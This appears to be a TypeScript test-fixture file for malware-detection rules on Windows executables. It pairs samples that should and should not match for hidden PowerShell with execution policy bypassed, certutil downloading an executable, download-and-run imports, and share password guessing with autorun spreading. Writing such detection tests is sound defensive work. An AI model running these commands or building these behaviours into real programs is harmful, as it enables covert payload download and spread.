// What a program starts.
import { goSection } from '../../go/write-table.ts'
import { KERNEL } from '../libraries.ts'
import type { PeRecipe } from '../pe-recipe.ts'
import { type Traits, texts } from './trait.ts'

const go = (functions: readonly string[], ...strings: readonly string[]): PeRecipe => ({
  bits: 64,
  sections: [goSection(...functions)],
  strings,
})

export const execution: Traits = {
  pe_runs_native_code_in_go: {
    hits: {
      'fetches and copies': go(['net/http.(*Client).Do', 'main.main'], 'RtlCopyMemory'),
      'decodes and copies': go(['encoding/base64.(*Encoding).DecodeString', 'main.main'], 'RtlMoveMemory'),
    },
    misses: {
      'copies text to the clipboard': go(['net/http.(*Client).Do'], 'RtlMoveMemory', 'OpenClipboard'),
      'fetches only': go(['net/http.(*Client).Do', 'main.main']),
      'no program in Go': { bits: 64, strings: ['RtlCopyMemory'] },
    },
  },
  pe_runs_hidden_powershell: {
    hits: {
      'hidden and past the policy': texts('powershell.exe -WindowStyle Hidden -ExecutionPolicy Bypass -File a.ps1'),
    },
    misses: { 'names the program': texts('powershell.exe -File a.ps1') },
  },
  pe_runs_system_binaries_for_download: {
    hits: { certutil: texts('certutil -urlcache -split -f http://example.com/a a.exe') },
    misses: { 'certutil for a hash': texts('certutil -hashfile a.exe SHA256') },
  },
  pe_downloads_and_runs: {
    hits: {
      'two calls': { imports: { 'urlmon.dll': ['URLDownloadToFileW'], 'SHELL32.dll': ['ShellExecuteW'] } },
      'from a bare address': {
        imports: { 'WINHTTP.dll': ['WinHttpReadData'], [KERNEL]: ['CreateProcessW'] },
        wideStrings: ['203.0.113.150'],
      },
    },
    misses: {
      'downloads only': { imports: { 'urlmon.dll': ['URLDownloadToFileW'] } },
      'fetches and shows': { imports: { 'WINHTTP.dll': ['WinHttpReadData'] }, wideStrings: ['203.0.113.150'] },
    },
  },
  pe_spreads_to_others: {
    hits: {
      'guesses passwords of shares': {
        imports: { 'MPR.dll': ['WNetAddConnection2W'], 'KERNEL32.dll': ['CopyFileW'] },
        strings: ['123456', 'password', 'letmein', 'qwerty', 'admin123'],
      },
      'writes autorun files': {
        imports: { 'KERNEL32.dll': ['CopyFileW', 'GetDriveTypeW', 'GetModuleFileNameW'] },
        strings: ['X:\\autorun.inf', '[autorun]'],
      },
    },
    misses: {
      'connects a drive': { imports: { 'MPR.dll': ['WNetAddConnection2W'], 'KERNEL32.dll': ['CopyFileW'] } },
      'warns of weak passwords': { strings: ['123456', 'password', 'letmein', 'qwerty', 'admin123'] },
      'reads autorun files': {
        imports: { 'KERNEL32.dll': ['CopyFileW', 'GetDriveTypeW', 'GetModuleFileNameW'] },
        strings: ['autorun.inf'],
      },
    },
  },
}
